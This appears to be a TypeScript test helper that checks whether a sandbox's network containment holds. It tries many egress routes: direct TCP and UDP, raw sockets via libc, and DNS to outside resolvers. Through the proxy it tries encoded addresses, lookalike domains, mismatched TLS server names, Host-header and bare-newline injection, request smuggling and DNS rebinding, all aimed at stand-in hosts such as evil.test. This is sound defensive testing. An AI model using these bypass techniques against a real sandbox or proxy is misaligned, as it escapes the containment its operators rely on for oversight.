import { dlopen, FFIType, ptr } from "bun:ffi";
import { Resolver } from "node:dns/promises";
import { connect as connectTcp } from "node:net";
import { clientHello } from "./client-hello.ts";
import { rawRequest, sendRaw } from "./raw-http.ts";

/** Where the ways out lead to. */
export interface WaysOut {
  /** The address of a host on the internet, which answers at the TCP ports 53, 80, 443 and 8080, and the UDP ports 53 and 8080. */
  target: string;
  /** The same of hosts that are closed to every sandbox, with the port. */
  closed: readonly (readonly [host: string, port: number])[];
  /** The sandbox's proxy; null: it has none. */
  proxy: string | null;
}

/** What a host on the internet sends back. */
export const REACHED = "reached";
/** In what is sent where it must not arrive. */
export const STRAY = "stray";
/** Long enough for an answer of this machine. */
const ANSWER_MS = 700;

type Way = (ways: WaysOut & { proxy: string }) => Promise<string>;

/** Ways that avoid the proxy. With an open network those marked with `+` work. */
const DIRECT: Readonly<Record<string, Way>> = {
  "+TCP to the address": ({ target }) => tcp(target, 8080),
  "+TCP to port 443": ({ target }) => tcp(target, 443),
  "+TCP to the port of DNS": ({ target }) => tcp(target, 53),
  "+TCP to the mapped address": ({ target }) => tcp(`::ffff:${target}`, 8080),
  "+a request without the proxy variables": ({ target }) => withoutProxy(`http://${target}:8080/${STRAY}`),
  "+UDP": ({ target }) => udp(target, 8080),
  "+UDP to the port of DNS": ({ target }) => udp(target, 53),
  "TCP to the address in NAT64": ({ target }) => tcp(nat64(target), 8080),
  "TCP to an address of IPv6": () => tcp("2606:4700::1111", 443),
  "UDP to an address of IPv6": () => udp("2606:4700::1111", 53),
  multicast: () => udp("224.0.0.251", 5353),
  broadcast: () => udp("255.255.255.255", 8080),
  "the closed addresses": async ({ closed }) =>
    (await Promise.all(closed.map(([host, port]) => tcp(host, port)))).find(isReached) ?? "closed",
  "+an ICMP echo": async ({ target }) => send(SOCK_DGRAM, IPPROTO_ICMP, target),
  "a raw socket of ICMP": async ({ target }) => send(SOCK_RAW, IPPROTO_ICMP, target),
  "a raw socket of TCP": async ({ target }) => send(SOCK_RAW, IPPROTO_TCP, target),
  "a raw socket of the link layer": async () =>
    call("socket", AF_PACKET, SOCK_RAW, 0) < 0 ? "closed" : REACHED,
  "a name with the system's resolver": () => resolves(null),
  "a name with the engine's resolver": () => resolves("127.0.0.11"),
  "a name with a resolver of its own": ({ target }) => resolves(target),
};

/** Ways through the proxy. */
const THROUGH: Readonly<Record<string, Way>> = {
  "the address": ({ proxy, target }) => tunnel(proxy, `${target}:443`, clientHello([])),
  "the address as one number": ({ proxy, target }) =>
    tunnel(proxy, `${numberOf(target)}:443`, clientHello([])),
  "the address in hexadecimal": ({ proxy, target }) =>
    tunnel(proxy, `0x${numberOf(target).toString(16)}:443`, clientHello([])),
  "the address in octal": ({ proxy, target }) =>
    tunnel(proxy, `0${numberOf(target).toString(8)}:443`, clientHello([])),
  "the mapped address": ({ proxy, target }) => tunnel(proxy, `[::ffff:${target}]:443`, clientHello([])),
  "another name": ({ proxy }) => tunnel(proxy, "evil.test:443", clientHello(["evil.test"])),
  "a name below the allowed one": ({ proxy }) =>
    tunnel(proxy, "x.allowed.test:443", clientHello(["x.allowed.test"])),
  "a name that begins with the allowed one": ({ proxy }) =>
    tunnel(proxy, "allowed.test.evil.test:443", clientHello(["allowed.test.evil.test"])),
  "a name that ends with the allowed one": ({ proxy }) =>
    tunnel(proxy, "evilallowed.test:443", clientHello(["evilallowed.test"])),
  "another port of the allowed name": ({ proxy }) => tunnel(proxy, "allowed.test:53", Buffer.from(STRAY)),
  "TLS that names another server": ({ proxy }) =>
    tunnel(proxy, "allowed.test:443", clientHello(["evil.test"])),
  "TLS that names another server, at another port": ({ proxy }) =>
    tunnel(proxy, "allowed.test:8080", clientHello(["evil.test"])),
  "TLS that names another server, in small records": ({ proxy }) =>
    tunnel(proxy, "allowed.test:443", clientHello(["evil.test"], 7)),
  "TLS that names two servers": ({ proxy }) =>
    tunnel(proxy, "allowed.test:443", clientHello(["allowed.test", "evil.test"])),
  "TLS that names no server": ({ proxy }) => tunnel(proxy, "allowed.test:443", clientHello([])),
  "no TLS at port 443": ({ proxy }) => tunnel(proxy, "allowed.test:443", Buffer.from(`${STRAY}\r\n\r\n`)),
  "an allowed name with a private address": ({ proxy }) =>
    tunnel(proxy, "private.test:8080", Buffer.from(STRAY)),
  "an allowed name with a mapped private address": ({ proxy }) =>
    tunnel(proxy, "mapped.test:8080", Buffer.from(STRAY)),
  "an allowed name with a public and a private address": ({ proxy }) =>
    tunnel(proxy, "mixed.test:8080", Buffer.from(STRAY)),
  "a request for another host": ({ proxy }) =>
    raw(proxy, "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
  "a user name that looks like the host": ({ proxy }) =>
    raw(proxy, "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
  "a header behind a bare newline": ({ proxy }) =>
    raw(proxy, "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX: y\nHost: evil.test\r\n\r\n"),
  "a redirect": async ({ proxy }) => {
    const answer = await fetch("http://allowed.test/redirect", { proxy, signal: AbortSignal.timeout(5_000) });
    return `${answer.status} ${await answer.text()}`;
  },
  SOCKS: ({ proxy }) => raw(proxy, Buffer.from([5, 1, 0]).toString("latin1"), ANSWER_MS),
  "the API as a proxy": () => visit(`${process.env["SVC_API_URL"]}`, "http://evil.test/"),
};

/** What passes: the header of another host in it arrives as that of the target, and a second request does not. */
const ALLOWED: Readonly<Record<string, Way>> = {
  "TLS that names the host": ({ proxy }) => tunnel(proxy, "allowed.test:443", clientHello(["allowed.test"])),
  "TLS that names the host, in small records": ({ proxy }) =>
    tunnel(proxy, "ALLOWED.test:443", clientHello(["allowed.test"], 7)),
  "another protocol at a listed port": ({ proxy }) =>
    tunnel(proxy, "allowed.test:8080", Buffer.from("hello")),
  "a request": ({ proxy }) => raw(proxy, "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
  "a request with the header of another host": ({ proxy }) =>
    raw(proxy, "GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
  "a request with another behind it": ({ proxy }) =>
    raw(
      proxy,
      `GET http://allowed.test/ HTTP/1.1\r\nHost: a\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
    ),
  "a name whose next answer is private": ({ proxy }) =>
    tunnel(proxy, "rebind.test:8080", Buffer.from("hello")),
};

/** Ways that an open network of Docker has. */
export const OPEN_WAYS = Object.keys(DIRECT).filter((way) => way.startsWith("+"));
export const CLOSED_WAYS = [...Object.keys(DIRECT), ...Object.keys(THROUGH)];
export const ALLOWED_WAYS = Object.keys(ALLOWED);

/** Tries all ways out, one after the other, from where it is called. @returns `reached` or something else for each */
export async function tryWaysOut(ways: WaysOut): Promise<Record<string, string>> {
  const { proxy } = ways;
  const tried = proxy === null ? DIRECT : { ...DIRECT, ...THROUGH, ...ALLOWED };
  const outcomes: Record<string, string> = {};
  for (const [name, way] of Object.entries(tried)) {
    const outcome = await way({ ...ways, proxy: proxy ?? "" }).catch((error: unknown) => `failed: ${error}`);
    outcomes[name] = isReached(outcome) ? REACHED : outcome.slice(0, 200);
  }
  return outcomes;
}

const isReached = (outcome: string): boolean => outcome.includes(REACHED);

function tcp(host: string, port: number): Promise<string> {
  return exchange(host, port, Buffer.from(STRAY));
}

/** Sends bytes, and returns what comes back within a moment. */
function exchange(host: string, port: number, bytes: Buffer, then?: Buffer): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  let answer = "";
  const socket = connectTcp({ host, port }, () => socket.write(bytes));
  const timer = setTimeout(() => socket.destroy(), ANSWER_MS);
  socket.on("data", (data) => {
    if (answer === "" && then) socket.write(then);
    answer += data.toString("latin1");
    if (isReached(answer)) socket.destroy();
  });
  socket.on("error", (error) => {
    answer += ` ${error.message}`;
  });
  socket.on("close", () => {
    clearTimeout(timer);
    resolve(answer);
  });
  return promise;
}

function tunnel(proxy: string, target: string, bytes: Buffer): Promise<string> {
  const { hostname, port } = new URL(proxy);
  return exchange(hostname, Number(port), Buffer.from(`CONNECT ${target} HTTP/1.1\r\n\r\n`), bytes);
}

async function raw(proxy: string, text: string, ms = 5_000): Promise<string> {
  const late = Bun.sleep(ms).then(() => "no answer");
  return await Promise.race([sendRaw(proxy, text).then((answer) => answer.text), late]);
}

async function visit(base: string, url: string): Promise<string> {
  const answer = await sendRaw(base, rawRequest(url, ["Host: x"]));
  return answer.text;
}

async function withoutProxy(url: string): Promise<string> {
  const fetching = `fetch(${JSON.stringify(url)}).then((a) => a.text()).then(console.log, console.log)`;
  const child = Bun.spawn([process.execPath, "-e", fetching], {
    env: { BUN_BE_BUN: "1", PATH: process.env["PATH"] ?? "" },
    stdio: ["ignore", "pipe", "ignore"],
    timeout: 5_000,
  });
  return await new Response(child.stdout).text();
}

async function udp(host: string, port: number): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const socket = await Bun.udpSocket({
    socket: { data: (_, data) => resolve(data.toString()), error: (_, error) => resolve(String(error)) },
  });
  setTimeout(() => resolve("no answer"), ANSWER_MS);
  socket.send(STRAY, port, host);
  return await promise.finally(() => socket.close());
}

/** Asks a name server for a name; null: the system's. A name server on the internet that answers at all has been reached. */
async function resolves(server: string | null): Promise<string> {
  const resolver = new Resolver({ timeout: ANSWER_MS, tries: 1 });
  if (server !== null) resolver.setServers([server]);
  const late = Bun.sleep(ANSWER_MS * 2).then(() => "no answer");
  const asked = resolver.resolve4(`${STRAY}.evil.test`).then(
    (addresses) => `${REACHED} ${addresses}`,
    (error: unknown) => String(Reflect.get(Object(error), "code")),
  );
  return await Promise.race([asked, late]);
}

const AF_INET = 2;
const AF_PACKET = 17;
const SOCK_DGRAM = 2;
const SOCK_RAW = 3;
const IPPROTO_ICMP = 1;
const IPPROTO_TCP = 6;

/** Sends an ICMP echo request, or the same bytes by another protocol, with the kernel's own calls. */
function send(type: number, protocol: number, target: string): string {
  const fd = call("socket", AF_INET, type, protocol);
  if (fd < 0) return "closed: no socket";
  const packet = Buffer.from([8, 0, 0xf7, 0xff, 0, 0, 0, 0]);
  const address = Buffer.alloc(16);
  address.writeUInt16LE(AF_INET, 0);
  address.writeUInt32BE(numberOf(target), 4);
  const sent = call("sendto", fd, ptr(packet), packet.length, 0, ptr(address), address.length);
  call("close", fd);
  return sent < 0 ? "closed: not sent" : REACHED;
}

function call(name: "socket" | "sendto" | "close", ...values: number[]): number {
  const int = FFIType.i32;
  const { symbols } = dlopen("libc.so.6", {
    socket: { args: [int, int, int], returns: int },
    sendto: {
      args: [int, FFIType.ptr, FFIType.u64, int, FFIType.ptr, FFIType.u32],
      returns: FFIType.i64_fast,
    },
    close: { args: [int], returns: int },
  });
  return Number(Reflect.apply(symbols[name], null, values));
}

const numberOf = (address: string) => address.split(".").reduce((sum, octet) => sum * 256 + Number(octet), 0);
const nat64 = (address: string) =>
  `64:ff9b::${numberOf(address)
    .toString(16)
    .replace(/(....)$/, ":$1")}`;
